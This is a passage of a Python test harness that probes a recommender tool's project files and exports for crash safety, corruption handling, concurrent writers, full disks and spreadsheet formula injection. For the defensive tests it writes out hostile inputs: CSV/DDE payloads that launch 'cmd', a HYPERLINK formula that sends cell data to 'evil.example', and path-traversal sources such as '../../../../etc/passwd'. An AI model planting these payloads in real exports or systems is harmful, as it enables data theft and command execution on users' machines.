             "lm": [{"max_len": 300_000_000}, {"blocks": 100000}, {"heads": 16}, {"dim": 60000}, {"lora_rank": 10**6},
                    {"max_tokens": 10**9}, {"tower_items": 10**9}, {"tune_layers": 10**6}]}
    for run, edits in sizes.items():
        if run not in run_ids:
            continue
        for e in edits:
            (k, v), = e.items()
            harmless = run in ("itemknn", "ease") or e == {"heads": 16}  # sizes nothing built at load
            c.append(ProjectCase(f"{run}.{k} = {v:,}", lambda p, r, run=run, e=e: _set_params(p, run, **e),
                                 "" if harmless else run))
    for run in ("sasrec", "bpr", "ease"):
        if run in run_ids:
            for key, value in (("n_users", 10**12), ("n_items", 10**12), ("n_users", -1), ("n_items", "many")):
                c.append(ProjectCase(f"{run} config {key} = {value}",
                                     lambda p, r, run=run, key=key, value=value: _set_config(p, run, **{key: value}), run))
            for key, value in (("epochs", 1e308), ("seed", "x"), ("factors" if run == "bpr" else "k", -5)):
                if key in ("factors", "k") and run not in ("bpr",):
                    continue
                c.append(ProjectCase(f"{run}.{key} = {value!r}",
                                     lambda p, r, run=run, key=key, value=value: _set_params(p, run, **{key: value}),
                                     "" if key == "epochs" else run))  # an epoch count is used by a fit only
    for run, rid in run_ids.items():
        for off in (12, 200, -5):
            c.append(ProjectCase(f"flip weights of {run} at {off}", lambda p, r, rid=rid, off=off: _flip(p, f"run/{rid}/weights", off),
                                 run))
    for rid_run in ("ease", "bpr"):
        rid = run_ids[rid_run]
        c.append(ProjectCase(f"flip evaluation of {rid_run}", lambda p, r, rid=rid: _flip(p, f"run/{rid}/evaluation", -7), rid_run))
        c.append(ProjectCase(f"delete weights of {rid_run}", lambda p, r, rid=rid: _sql(
            p, "DELETE FROM blobs WHERE key = ?", f"run/{rid}/weights"), rid_run))
        c.append(ProjectCase(f"weights checksum changed ({rid_run})", lambda p, r, rid=rid: _sql(
            p, "UPDATE blobs SET sha256 = ? WHERE key = ?", "0" * 64, f"run/{rid}/weights"), rid_run))
        c.append(ProjectCase(f"extra weights part ({rid_run})", lambda p, r, rid=rid: _sql(
            p, "INSERT INTO blobs (key, part, data) VALUES (?, 7, x'00')", f"run/{rid}/weights"), rid_run))
        c.append(ProjectCase(f"model_ids of {rid_run} = []", lambda p, r, rid=rid: _sql(
            p, "UPDATE runs SET model_ids = '[]' WHERE id = ?", rid), rid_run))
        c.append(ProjectCase(f"model_ids of {rid_run} nested 100k deep", lambda p, r, rid=rid: _sql(
            p, "UPDATE runs SET model_ids = ? WHERE id = ?", "[" * 100_000 + "]" * 100_000, rid), rid_run))
        c.append(ProjectCase(f"info of {rid_run} nested 100k deep", lambda p, r, rid=rid: _sql(
            p, "UPDATE runs SET info = ? WHERE id = ?", '{"a":' * 100_000 + "1" + "}" * 100_000, rid), rid_run))
        c.append(ProjectCase(f"history of {rid_run} = 12", lambda p, r, rid=rid: _sql(
            p, "UPDATE runs SET history = '12' WHERE id = ?", rid), rid_run))
        for col, value in (("model_config", 42), ("model_config", b"\x00\x01"), ("name", 3.5), ("model", "nosuchmodel"),
                           ("model_config", "{}"), ("created", 7)):
            text = isinstance(value, (int, float)) and col in ("name", "created")  # a TEXT column keeps it as text
            c.append(ProjectCase(f"runs.{col} of {rid_run} = {value!r}", lambda p, r, rid=rid, col=col, value=value: _sql(
                p, f"UPDATE runs SET {col} = ? WHERE id = ?", value, rid), "" if text else rid_run))
    for key, part in (("dataset/catalog", "catalog"), ("dataset/interactions", "dataset"), ("split/parts", "split")):
        for off in (12, 300, -3):
            c.append(ProjectCase(f"flip {key} at {off}", lambda p, r, key=key, off=off: _flip(p, key, off), part))
        c.append(ProjectCase(f"delete {key}", lambda p, r, key=key: _sql(p, "DELETE FROM blobs WHERE key = ?", key), part))
        c.append(ProjectCase(f"{key} part 0 emptied", lambda p, r, key=key: _sql(
            p, "UPDATE blobs SET data = x'' WHERE key = ? AND part = 0", key), part))
    for col, value in (("n_users", 10**15), ("n_events", -4), ("mapping", "[]"), ("catalog", '{"x": 1}'), ("source", "7"),
                       ("events", "null")):
        # the stated counts are a summary: the stored arrays decide what is built, so they load
        lost = "catalog" if col == "catalog" else "" if col in ("n_users", "n_events") else "dataset"
        c.append(ProjectCase(f"dataset.{col} = {value!r}", lambda p, r, col=col, value=value: _sql(
            p, f"UPDATE dataset SET {col} = ?", value), lost))
    for col, value in (("counts", '{"train": 10000000000000}'), ("options", "[]"), ("warnings", "5"), ("method", "magic")):
        c.append(ProjectCase(f"split.{col} = {value!r}", lambda p, r, col=col, value=value: _sql(
            p, f"UPDATE split SET {col} = ?", value), "" if col == "counts" else "split"))
    c.append(ProjectCase("rule set spec not JSON", lambda p, r: _sql(p, "UPDATE rules SET spec = '{oops'"), "rules"))
    c.append(ProjectCase("rule set weight 1e308", lambda p, r: _sql(
        p, "UPDATE rules SET spec = ?", json.dumps({"rules": [{"type": "long_tail", "weight": 1e308}]})), "rules"))
    c.append(ProjectCase("note of 20 MB", lambda p, r: _sql(p, "UPDATE notes SET text = ?", "n" * 20_000_000), ""))
    for table in ("meta", "blobs", "sources", "dataset", "split", "runs", "rules", "reports", "notes"):
        c.append(ProjectCase(f"table {table} dropped", lambda p, r, t=table: _sql(p, f"DROP TABLE {t}"), "file"))
    c.append(ProjectCase("a trigger added", lambda p, r: _sql(
        p, "CREATE TRIGGER t AFTER INSERT ON notes BEGIN DELETE FROM runs; END"), "file"))
    c.append(ProjectCase("a view added", lambda p, r: _sql(p, "CREATE VIEW v AS SELECT 1"), "file"))
    c.append(ProjectCase("format name changed", lambda p, r: _sql(p, "UPDATE meta SET value = 'x' WHERE key = 'format'"),
                         "file"))
    c.append(ProjectCase("user_version 99", lambda p, r: _sql(p, "PRAGMA user_version = 99"), "file"))
    c.append(ProjectCase("application_id 0", lambda p, r: _sql(p, "PRAGMA application_id = 0"), "file"))
    c.append(ProjectCase("file truncated to half", lambda p, r: _truncate(p, 0.5), "file"))
    c.append(ProjectCase("file truncated to 100 bytes", lambda p, r: _truncate(p, 100), "file"))
    c.append(ProjectCase("first page zeroed after the header", lambda p, r: _zero(p, 100, 4096), "file"))
    for source, lost in (("/proc/self/mem", ""), ("/dev/zero", ""), ("/dev/stdin", ""), ("\\\\server\\share\\o.csv", ""),
                         ("../../../../etc/passwd", ""), ("FIFO", ""), ("BIG", ""), ("x" * 5000, "")):
        c.append(ProjectCase(f"source path {source[:30]}", lambda p, r, s=source: _set_source(p, s), lost))
    return c


def _truncate(path, keep):
    size = os.path.getsize(path)
    os.truncate(path, int(size * keep) if keep < 1 else int(keep))


def _zero(path, start, length):
    with open(path, "r+b") as f:
        f.seek(start)
        f.write(bytes(length))


def _set_source(path, source):
    if source == "FIFO":
        source = str(Path(path).with_name("src.fifo"))
        os.mkfifo(source)
    elif source == "BIG":
        source = str(Path(path).with_name("big.csv"))
        with open(source, "wb") as f:
            f.truncate(3 * 2**30)  # sparse 3 GB
    _sql(path, "UPDATE sources SET path = ?, size = ?, mtime_ns = 0 WHERE role = 'interactions'", source, 3 * 2**30)


def project_problem(case: ProjectCase, o: Outcome, runs: list[str], path: Path) -> str | None:
    if (p := _outcome_problem(o)):
        return p
    v = o.value
    if "error" in v:
        if case.lost != "file":
            return f"whole project refused ({v.get('error')}: {v.get('msg', '')[:140]})"
        if v.get("error") != "ProjectError" or not one_line(v.get("msg")) or path.name not in v["msg"]:
            return f"{v.get('error')}: {v.get('msg', '')[:140]}"
        return None
    if case.lost == "file":
        return "a damaged file loaded without a refusal"
    if not all(one_line(w) for w in v["warnings"]):
        return "a warning is not one line"
    expect_runs = [r for r in runs if r != case.lost]
    if v["runs"] != expect_runs:
        return f"runs {v['runs']}, expected {expect_runs}"
    want = {"dataset": case.lost != "dataset", "split": case.lost not in ("dataset", "split"),
            "catalog": case.lost not in ("dataset", "catalog"), "rules": 0 if case.lost == "rules" else 1}
    got = {k: v[k] for k in want}
    if got != want:
        return f"loaded {got}, expected {want}"
    if case.lost and not v["warnings"]:
        return f"{case.lost} left out without a warning"
    return None


def probe_projects(work: Path) -> ClassResult:
    res = ClassResult("crafted project files")
    d = work / "projects"
    d.mkdir()
    write_shop(d)
    o = isolated(_build_base, str(d), timeout=900, limit_memory=False)
    if "error" in o.value or o.status != "done":
        res.add("base project", f"could not be built: {o.value}")
        return res
    run_ids = o.value
    base = d / "base.recscope"
    runs = list(run_ids)
    clean = isolated(_load_project, str(base), timeout=300)
    if clean.value.get("runs") != runs or clean.value.get("warnings"):
        res.add("base project", f"does not load cleanly: {clean.value}")
        return res
    for j, case in enumerate(project_cases(run_ids)):
        path = d / f"case{j:03d}" / "p.recscope"
        path.parent.mkdir()
        shutil.copyfile(base, path)
        try:
            case.mutate(path, run_ids)
        except sqlite3.IntegrityError:  # the schema itself forbids this change: nothing to probe
            continue
        out = isolated(_load_project, str(path), timeout=300)
        res.add(case.label, project_problem(case, out, runs, path), out.rss_mb)
        shutil.rmtree(path.parent, ignore_errors=True)
    res.note = f"base project: {len(runs)} runs ({', '.join(runs)}), loads in a child at {clean.rss_mb:,.0f} MB peak RSS"
    return res



# ======================================================================================================
# 3. kill -9 during saves
# ======================================================================================================
def _writer(kind: str, d: str, w: int) -> None:
    """Save in a loop until killed, writing "ready N" and then "committed i" after each save to fd ``w``.

    write: one project's split (tagged with the iteration) and run list ("the last three runs + run
    i") in one transaction; save_as: the project copied to target.recscope with that update;
    export: every customer's top-(1 + i % 7) exported to lists.csv / lists.xlsx in turn."""
    from engine.models.ease import EASE
    from engine.runs import Run
    from engine.store import Project, save_new
    ds, sp = open_shop(Path(d))
    model = EASE().fit(sp.train)
    say = os.fdopen(w, "w", buffering=1)
    path = Path(d) / "crash.recscope"
    if kind == "export":
        from engine.lists.export import export_lists
        say.write("ready 0\n")
        for i in range(1, 10**6):
            export_lists(model, Path(d) / ("lists.csv" if i % 2 else "lists.xlsx"), 1 + i % 7, ds.catalog)
            say.write(f"committed {i}\n")
    project = Project.open(path) if path.exists() else save_new(path, dataset=ds, split=sp,
                                                                 split_options={"iteration": 0})
    last = project.split_options()["iteration"]
    say.write(f"ready {last}\n")
    for i in range(last + 1, 10**6):
        runs = [Run(id=f"run{j:05d}", name=f"run {j}", model=model, info={"iteration": j})
                for j in range(max(1, i - 3), i + 1)]
        if kind == "write":
            project.write(split=sp, split_options={"iteration": i}, runs=runs)
        else:
            project.save_as(Path(d) / "target.recscope", split=sp, split_options={"iteration": i}, runs=runs).close()
        say.write(f"committed {i}\n")


def _check_iteration(path: str) -> dict:
    from engine.store import Project
    if not os.path.exists(path):
        return {"absent": True}
    with Project.open(path) as project:
        it = project.split_options()["iteration"]
        got = project.load(verify_sources=False)
    return {"iteration": it, "runs": [r.info.get("iteration") for r in got.runs], "warnings": got.warnings,
            "dataset": got.dataset is not None and got.split is not None}


def _check_export(d: str) -> dict:
    files = sorted(os.listdir(d))
    out = {"files": [f for f in files if f.startswith(("lists", ".lists"))]}
    for name in ("lists.csv", "lists.xlsx"):
        p = Path(d) / name
        if p.exists():
            frame = (pd.read_csv(p, dtype=str, keep_default_na=False, encoding="utf-8-sig") if name.endswith(".csv")
                     else pd.read_excel(p, dtype=str, keep_default_na=False))
            out[name] = {"rows": len(frame), "users": int(frame["user"].nunique()),
                         "k": sorted(set(frame.groupby("user").size().tolist()))}
    return out


def _start_writer(kind: str, d: Path) -> tuple[int, int]:
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(r)
        try:
            _writer(kind, str(d), w)
        finally:
            os._exit(0)
    os.close(w)
    return pid, r


def _read_lines(r: int, until: str | None, timeout: float) -> list[str]:
    """Lines from fd ``r`` until one starts with ``until`` (None: until EOF) or the time is up."""
    buf, deadline = b"", time.monotonic() + timeout
    while time.monotonic() < deadline:
        ready, _, _ = select.select([r], [], [], 0.2)
        if ready:
            chunk = os.read(r, 65536)
            if not chunk:
                break
            buf += chunk
            if until and any(line.startswith(until) for line in buf.decode().splitlines()):
                break
    return buf.decode().splitlines()


def probe_kills(work: Path, n_write=30, n_save_as=12, n_export=12) -> ClassResult:
    res = ClassResult("kill -9 during saves")
    rng = random.Random(21)
    stats = {"in flight": 0, "commits": 0, "leftovers": 0}
    for kind, n in (("write", n_write), ("save_as", n_save_as), ("export", n_export)):
        d = work / f"kill-{kind}"
        d.mkdir()
        write_shop(d)
        known = 0
        for trial in range(n):
            pid, r = _start_writer(kind, d)
            lines = _read_lines(r, "ready", 120)
            time.sleep(rng.uniform(0.0, 0.8))
            os.kill(pid, signal.SIGKILL)
            os.waitpid(pid, 0)
            lines += _read_lines(r, None, 5)
            os.close(r)
            done = [int(x.split()[1]) for x in lines if x.startswith("committed")]
            stats["commits"] += len(done)
            label = f"{kind} kill {trial + 1}"
            if kind == "export":
                o = isolated(_check_export, str(d))
                v = o.value
                problem = _outcome_problem(o)
                for name in ("lists.csv", "lists.xlsx"):
                    if name in v and not (len(v[name]["k"]) == 1 and v[name]["rows"] == v[name]["users"] * v[name]["k"][0]):
                        problem = f"{name} half-written: {v[name]}"
                stray = [f for f in v.get("files", []) if f not in ("lists.csv", "lists.xlsx")]
                if stray:
                    problem = f"left behind {stray}"
                res.add(label, problem, o.rss_mb)
                continue
            reported = done[-1] if done else known
            target = d / ("crash.recscope" if kind == "write" else "target.recscope")
            o = isolated(_check_iteration, str(target))
            v = o.value
            problem = _outcome_problem(o)
            if not problem and "error" in v:
                problem = f"{v['error']}: {v.get('msg', '')[:140]}"
            elif not problem and not v.get("absent"):
                it = v["iteration"]
                if kind == "write" and it not in (reported, reported + 1):
                    problem = f"file at iteration {it}, the writer reported {reported}"
                elif kind == "save_as" and done and it not in (done[-1], done[-1] + 1) and it < done[-1]:
                    problem = f"target at iteration {it}, the writer reported {done[-1]}"
                elif v["runs"] != list(range(max(1, it - 3), it + 1)) * (it > 0) or v["warnings"] or not v["dataset"]:
                    problem = f"mixed or damaged state: runs {v['runs']} at {it}, warnings {v['warnings']}"
                stats["in flight"] += kind == "write" and it == reported + 1
                known = it if kind == "write" else known
            stray = [f for f in os.listdir(d) if f.endswith((".partial", "-journal", "-wal", ".part"))]
            stats["leftovers"] += len(stray)
            res.add(label, problem, o.rss_mb)
    res.note = (f"{stats['commits']} saves committed between the kills; {stats['in flight']} kills landed after a "
                f"commit but before its report; side files present right after a kill (removed by the next open): "
                f"{stats['leftovers']}")
    return res


# ======================================================================================================
# 4. two writers on one project
# ======================================================================================================
def _base_small(d: Path):
    from engine.models.popularity import MostPopular
    from engine.runs import Run
    from engine.store import save_new
    ds, sp = open_shop(d)
    pop = lambda i: Run(id=f"pop{i}", name=f"pop {i}", model=MostPopular().fit(sp.train))  # noqa: E731
    return ds, sp, pop, save_new


_ELSEWHERE = """
import json, sys
sys.path.insert(0, sys.argv[1])
from pathlib import Path
from bench.probe_hostile import _base_small, describe
try:
    if sys.argv[2] == "open":
        from engine.store import Project
        Project.open(sys.argv[3]).close()
        print(json.dumps({"opened": True}))
    else:
        ds, sp, pop, save_new = _base_small(Path(sys.argv[4]))
        save_new(sys.argv[3], dataset=ds, split=sp, runs=[pop(9)]).close()
        print(json.dumps({"saved": True}))
except Exception as e:
    print(json.dumps(describe(e)))
"""


def _in_other_process(what: str, path: str, d: str = "") -> dict:
    """Open (``what`` = "open") or save a new project ("save") at ``path`` in a new Python process."""
    out = subprocess.run([sys.executable, "-c", _ELSEWHERE, str(REPO), what, path, d], capture_output=True,
                         text=True, timeout=300, env=dict(os.environ, PYTHONPATH=str(REPO)))
    try:
        return json.loads(out.stdout.strip().splitlines()[-1])
    except (IndexError, json.JSONDecodeError):
        return {"error": f"exit {out.returncode}", "msg": out.stderr[-200:]}


def _two_writers(d: str, scenario: str) -> dict:
    from engine.errors import ProjectError
    from engine.store import Project
    d = Path(d)
    ds, sp, pop, save_new = _base_small(d)
    a_path = d / f"{scenario}.recscope"
    a = save_new(a_path, dataset=ds, split=sp, runs=[pop(1)])
    try:
        if scenario == "second window":
            Project.open(a_path)
        elif scenario == "second process":
            got = _in_other_process("open", str(a_path))
            if got.get("opened"):
                return {"lost": "a second process opened the project in use"}
            raise ProjectError(got.get("msg", ""))
        elif scenario == "save as onto a held file":
            b = save_new(d / "b.recscope", dataset=ds, split=sp, runs=[pop(2)])
            try:
                b.save_as(a_path)
            finally:
                b.close()
        elif scenario == "other process saves a new project onto a held file":
            got = _in_other_process("save", str(a_path), str(d))
            a.add_run(pop(3))
            if got.get("saved"):
                with contextlib.suppress(ProjectError):
                    a.close()
                    with Project.open(a_path) as again:
                        if "pop3" not in again.run_ids():
                            return {"lost": "the window's autosave went to a replaced file"}
            raise ProjectError(got.get("msg", "refused"))
        elif scenario == "file replaced behind the project":
            shutil.copyfile(a_path, d / "other.recscope")
            os.replace(d / "other.recscope", a_path)
            a.add_run(pop(4))
            return {"lost": "saved into a replaced file and reported success"}
        elif scenario == "file deleted behind the project":
            os.unlink(a_path)
            a.add_run(pop(5))
            return {"lost": "saved into a deleted file and reported success"}
        elif scenario in ("second window through a symlink", "second process through a hard link"):
            alias = d / ("alias.recscope" if "symlink" in scenario else "hard.recscope")
            alias.unlink(missing_ok=True)
            alias.symlink_to(a_path) if "symlink" in scenario else os.link(a_path, alias)
            if "symlink" in scenario:
                Project.open(alias)
            got = _in_other_process("open", str(alias))
            if got.get("opened"):
                return {"lost": "the project in use was opened again through another name"}
            raise ProjectError(got.get("msg", ""))
        return {"lost": "no refusal"}
    except ProjectError as e:
        return {"refused": str(e)}
    finally:
        with contextlib.suppress(Exception):
            a.close()


def _race(d: str, trial: int) -> dict:
    """Two processes save a new project to one file at the same moment; count who reports success."""
    path = Path(d) / f"race{trial}.recscope"
    r, w = os.pipe()
    pids = []
    for who in range(2):
        pid = os.fork()
        if pid == 0:
            os.close(r)
            try:
                ds, sp, pop, save_new = _base_small(Path(d))
                run = pop(who)
                time.sleep(max(0.0, 0.5 - time.time() % 0.5))
                try:
                    project = save_new(path, dataset=ds, split=sp, runs=[run])
                    os.write(w, f"{who} ok\n".encode())
                    time.sleep(5.0)  # the window holds the project it saved (longer than LOCK_WAIT_S)
                    project.close()
                except EngineError:
                    os.write(w, f"{who} refused\n".encode())
            finally:
                os._exit(0)
        pids.append(pid)
    os.close(w)
    for pid in pids:
        os.waitpid(pid, 0)
    lines = _read_lines(r, None, 5)
    os.close(r)
    from engine.store import Project
    with Project.open(path) as project:
        on_disk = project.run_ids()
    ok = [int(x.split()[0]) for x in lines if x.endswith("ok")]
    return {"ok": ok, "on_disk": on_disk}


TWO_WRITER_SCENARIOS = ("second window", "second process", "save as onto a held file",
                        "other process saves a new project onto a held file", "file replaced behind the project",
                        "file deleted behind the project", "second window through a symlink",
                        "second process through a hard link")


def probe_two_writers(work: Path, races=10) -> ClassResult:
    res = ClassResult("two writers on one project")
    d = work / "writers"
    d.mkdir()
    write_shop(d)
    for scenario in TWO_WRITER_SCENARIOS:
        o = isolated(_two_writers, str(d), scenario, timeout=300)
        v = o.value
        problem = _outcome_problem(o) or v.get("lost") or (
            None if "note" in v or one_line(v.get("refused")) else f"{v.get('error')}: {v.get('msg', '')[:120]}")
        res.add(scenario, problem, o.rss_mb)
    for trial in range(races):
        o = isolated(_race, str(d), trial, timeout=300)
        v = o.value
        problem = _outcome_problem(o) or ("error" in v and f"{v['error']}: {v.get('msg', '')[:120]}") or None
        if not problem and (len(v["ok"]) != 1 or v["on_disk"] != [f"pop{v['ok'][0]}"]):
            problem = f"reported success: {v['ok']}, on disk: {v['on_disk']}"
        res.add(f"race {trial + 1}", problem, o.rss_mb)
    return res



# ======================================================================================================
# 5. a full disk
# ======================================================================================================
@contextlib.contextmanager
def small_disk(work: Path, size_mb: int = 8):
    """A folder on a ``size_mb`` tmpfs (mounted here when allowed); None when it cannot be mounted
    (the probe then fills the disk with RLIMIT_FSIZE in each child instead)."""
    mnt = work / "full"
    mnt.mkdir()
    ok = subprocess.run(["mount", "-t", "tmpfs", "-o", f"size={size_mb}m", "tmpfs", str(mnt)],
                        capture_output=True).returncode == 0
    try:
        yield mnt if ok else None
    finally:
        if ok:
            subprocess.run(["umount", "-l", str(mnt)], capture_output=True)


def _fill(folder: Path, leave: int) -> None:
    """Fill ``folder``'s file system until ``leave`` bytes are free."""
    st = os.statvfs(folder)
    free = st.f_bavail * st.f_frsize
    with open(folder / "filler", "wb") as f:
        f.write(b"\0" * max(0, free - leave))


def _snapshot(folder: Path) -> dict:
    return {p.name: p.read_bytes() for p in folder.iterdir() if p.is_file() and p.name != "filler"}


def _disk_case(src: str, disk: str, scenario: str, rlimit: bool) -> dict:
    """One save onto a full disk. Returns what happened and whether the earlier file survived."""
    from engine.models.bpr import BPR
    from engine.runs import Run
    from engine.store import Project, save_new
    src, disk = Path(src), Path(disk)
    ds, sp = open_shop(src)
    from engine.models.ease import EASE
    small = Run(id="small", name="ease", model=EASE().fit(sp.train))
    big = Run(id="big", name="bpr", model=BPR(factors=2048, epochs=1).fit(sp.train))
    proj = disk / "p.recscope"
    save_new(proj, dataset=ds, split=sp, runs=[small]).close()
    (disk / "lists.csv").write_text("the export the client has\n")
    (disk / "lists.xlsx").write_bytes(b"the workbook the client has")
    (disk / "report.html").write_text("<html>the report the client has</html>")
    (disk / "model").mkdir()
    before = _snapshot(disk)
    if rlimit:
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        limit = max(p.stat().st_size for p in disk.iterdir() if p.is_file()) + 64 * 1024
        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))
    else:
        _fill(disk, 96 * 1024)
    out: dict = {}
    try:
        if scenario == "autosave of a run that does not fit":
            with Project.open(proj) as project:
                project.add_run(big)
        elif scenario == "save as a new project":
            save_new(disk / "new.recscope", dataset=ds, split=sp, runs=[small, big]).close()
        elif scenario == "save as over an existing project":
            with Project.open(proj) as project:
                project.save_as(disk / "p.recscope", runs=[small, big]).close()
        elif scenario in ("export csv", "export xlsx"):
            from engine.lists.export import export_lists
            export_lists(big.model, disk / ("lists.csv" if scenario.endswith("csv") else "lists.xlsx"), 50, ds.catalog)
        elif scenario == "report":
            from engine.machine.files import hidden_output
            with hidden_output(disk / "report.html") as fh:
                fh.write(b"<html>" + b"x" * (4 * 2**20))
        elif scenario == "share copy":
            from engine.store.share import share_copy
            with Project.open(proj) as project:
                share_copy(project, disk / "share.recscope")
        elif scenario.startswith("recscope "):
            argv = scenario.split()[1:]
            argv = [str(disk / a[1:]) if a.startswith("@") else str(src / a[1:]) if a.startswith("%") else a for a in argv]
            out["cli"] = cli(*argv)
        out["result"] = "reported success"
    except BaseException as e:  # noqa: BLE001 - reported
        out.update(describe(e))
    resource.setrlimit(resource.RLIMIT_FSIZE, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    with contextlib.suppress(OSError):
        (disk / "filler").unlink()
    after = _snapshot(disk)
    out["changed"] = sorted(k for k in before if after.get(k) != before[k])
    out["new"] = sorted(set(after) - set(before))
    alone = src / "alone.recscope"  # the project file copied without any side file opens by itself
    shutil.copyfile(proj, alone)
    with Project.open(alone) as project:
        out["alone_runs"] = project.run_ids()
        out["alone_warnings"] = project.load(verify_sources=False).warnings
    alone.unlink()
    return out


DISK_SCENARIOS = ("autosave of a run that does not fit", "save as a new project", "save as over an existing project",
                  "export csv", "export xlsx", "report", "share copy",
                  "recscope export --model-dir %model --out @lists.csv --k 50",
                  "recscope train --train %orders.csv --model bpr --param factors=2048 --epochs 1 --out @model/m",
                  "recscope split %orders.csv --out @split")


def disk_problem(scenario: str, o: Outcome) -> str | None:
    if (p := _outcome_problem(o)):
        return p
    v = o.value
    if "alone_runs" not in v:
        return f"{v.get('error')}: {v.get('msg', '')[:140]}"
    if v["alone_runs"] != ["small"] or v["alone_warnings"]:
        return f"the project file alone holds {v['alone_runs']} {v['alone_warnings']}"
    changed = [f for f in v["changed"] if not (scenario == "share copy" and f == "p.recscope")]  # its scope is stored
    if changed:
        return f"earlier files changed: {changed}"
    if v["new"]:
        return f"left behind: {v['new']}"
    if "cli" in v:
        return cli_clean_error(v["cli"])
    if v.get("result") == "reported success":
        return "reported success on a full disk"
    if not v.get("engine") and scenario != "report":
        return f"{v.get('error')} (not an EngineError): {v.get('msg', '')[:140]}"
    return None if one_line(v.get("msg")) else "message not one line"


def _cli_train(src: str) -> dict:
    return cli("train", "--train", str(Path(src) / "orders.csv"), "--model", "pop", "--out", str(Path(src) / "model"))


def probe_disk(work: Path) -> ClassResult:
    res = ClassResult("full disk")
    src = work / "disk-src"
    src.mkdir()
    write_shop(src)
    isolated(_cli_train, str(src), timeout=300)
    with small_disk(work) as mnt:
        res.note = "a tmpfs of 8 MB filled to 96 KB free" if mnt else "RLIMIT_FSIZE at the largest file + 64 KB"
        for scenario in DISK_SCENARIOS:
            disk = mnt / "case" if mnt else work / "disk-case"
            shutil.rmtree(disk, ignore_errors=True)
            disk.mkdir()
            o = isolated(_disk_case, str(src), str(disk), scenario, mnt is None, timeout=300)
            res.add(scenario, disk_problem(scenario, o), o.rss_mb)
            shutil.rmtree(disk, ignore_errors=True)
    return res


# ======================================================================================================
# 6. formula injection in exports, and terminal escapes
# ======================================================================================================
INJECTED = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "\uff1d1+1", "\uff0b1+1",
            "=1+1", "-1", "+1", "@x", "=cmd|' /C notepad'!'A1'", "%0A=1+1", "=DDE(\"cmd\";\"/C calc\";\"x\")"]
_RISKY = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
_NUMBER = re.compile(r"^[-+]?(\d+(\.\d*)?|\.\d+)([eE][-+]?\d+)?$")


def _injection_exports(d: str) -> dict:
    from engine.data import open_dataset
    from engine.lists.export import export_lists
    from engine.models.ease import EASE
    from engine.store.pseudonyms import Pseudonyms
    d = Path(d)
    customers = [f"{INJECTED[i % len(INJECTED)]} c{i}" if i % 2 else f"c{i}" for i in range(60)]
    items = [f"{INJECTED[j % len(INJECTED)]}#{j}" if j % 3 == 0 else f"sku-{j:02d}" for j in range(40)]
    titles = [INJECTED[j % len(INJECTED)] for j in range(40)]
    write_shop(d, customers, items, titles, n_rows=900)
    frame = pd.read_csv(d / "items.csv", dtype=str, keep_default_na=False)
    frame["category"] = [INJECTED[(j + 3) % len(INJECTED)] for j in range(len(frame))]
    frame.to_csv(d / "items.csv", index=False)
    ds = open_dataset(d / "orders.csv", catalog_path=d / "items.csv")
    model = EASE().fit(ds.interactions)
    out = {}
    for name, kw in (("lists.csv", {}), ("lists.xlsx", {}), ("pseudo.csv", {"pseudonyms": Pseudonyms(b"k" * 32)})):
        export_lists(model, d / name, 10, ds.catalog, **kw)
        out[name] = _unsafe_cells(d / name)
    res = cli("recommend", "--model-dir", _saved(model, d), "--user", customers[1], "--k", 20, "--catalog", d / "items.csv")
    out["recommend"] = {"rc": res["rc"], "escapes": sum(ch in res["stdout"] for ch in ("\x1b", "\x07", "\u202e", "\r"))}
    return out


def _saved(model, d: Path) -> Path:
    model.save(d / "model")
    return d / "model"


def _unsafe_cells(path: Path) -> dict:
    """How many text cells of an export a spreadsheet would run as a formula."""
    if path.suffix == ".csv":
        import csv
        with open(path, encoding="utf-8-sig", newline="") as f:
            cells = [c for row in csv.reader(f) for c in row]
        bad = [c for c in cells if c.startswith(_RISKY) and not _NUMBER.match(c)]
        return {"cells": len(cells), "unsafe": len(bad), "examples": bad[:3]}
    with zipfile.ZipFile(path) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
    formulas = sheet.count("<f>") + sheet.count("<f ")
    import openpyxl
    ws = openpyxl.load_workbook(path, data_only=False).active
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    bad = [c.value for c in cells if c.data_type == "f" or (isinstance(c.value, str) and c.value.startswith("=")
                                                             and c.data_type != "s")]
    return {"cells": len(cells), "unsafe": formulas + len(bad), "examples": bad[:3]}


def probe_injection(work: Path) -> ClassResult:
    res = ClassResult("formula injection in exports")
    d = work / "injection"
    d.mkdir()
    o = isolated(_injection_exports, str(d), timeout=600)
    if (p := _outcome_problem(o)) or "error" in o.value:
        res.add("exports", p or f"{o.value.get('error')}: {o.value.get('msg', '')[:140]}", o.rss_mb)
        return res
    notes = []
    for name in ("lists.csv", "lists.xlsx", "pseudo.csv"):
        v = o.value[name]
        res.inputs += v["cells"]
        res.clean += v["cells"] - v["unsafe"]
        res.failures += [f"{name}: {e!r} would run" for e in v["examples"]]
        res.failures += [f"{name}: ..."] * max(0, v["unsafe"] - len(v["examples"]))
        notes.append(f"{name}: {v['cells']:,} cells")
    rec = o.value["recommend"]
    res.add("recscope recommend output", None if rec["rc"] == 0 and not rec["escapes"] else f"{rec}")
    res.rss_mb = o.rss_mb
    res.note = "; ".join(notes) + f"; {len(INJECTED)} hostile texts in customer ids, item ids, titles and categories"
    return res


# ======================================================================================================
# 7. pseudonymisation
# ======================================================================================================
def _pseudonymised_files(d: str) -> dict:
    """Every file the pseudonymising paths produce, and the bytes each one holds."""
    from engine.lists.export import export_lists
    from engine.models.popularity import MostPopular
    from engine.store import save_new
    from engine.store.pseudonyms import Pseudonyms, key_dir, scope_of
    from engine.store.share import share_copy
    d = Path(d)
    ds, sp = open_shop(d)
    out = d / "shared"
    out.mkdir()
    runs = _train(sp, ds.catalog, ("pop", "ease", "bpr", "sasrec", "twotower"))
    project = save_new(d / "client.recscope", dataset=ds, split=sp, runs=runs)
    project.save_rules("tail", {"rules": [{"type": "long_tail", "weight": 0.3}]})
    share_copy(project, out / "share.recscope")
    scope = project.pseudonym_scope()
    project.close()
    model = MostPopular().fit(ds.interactions)
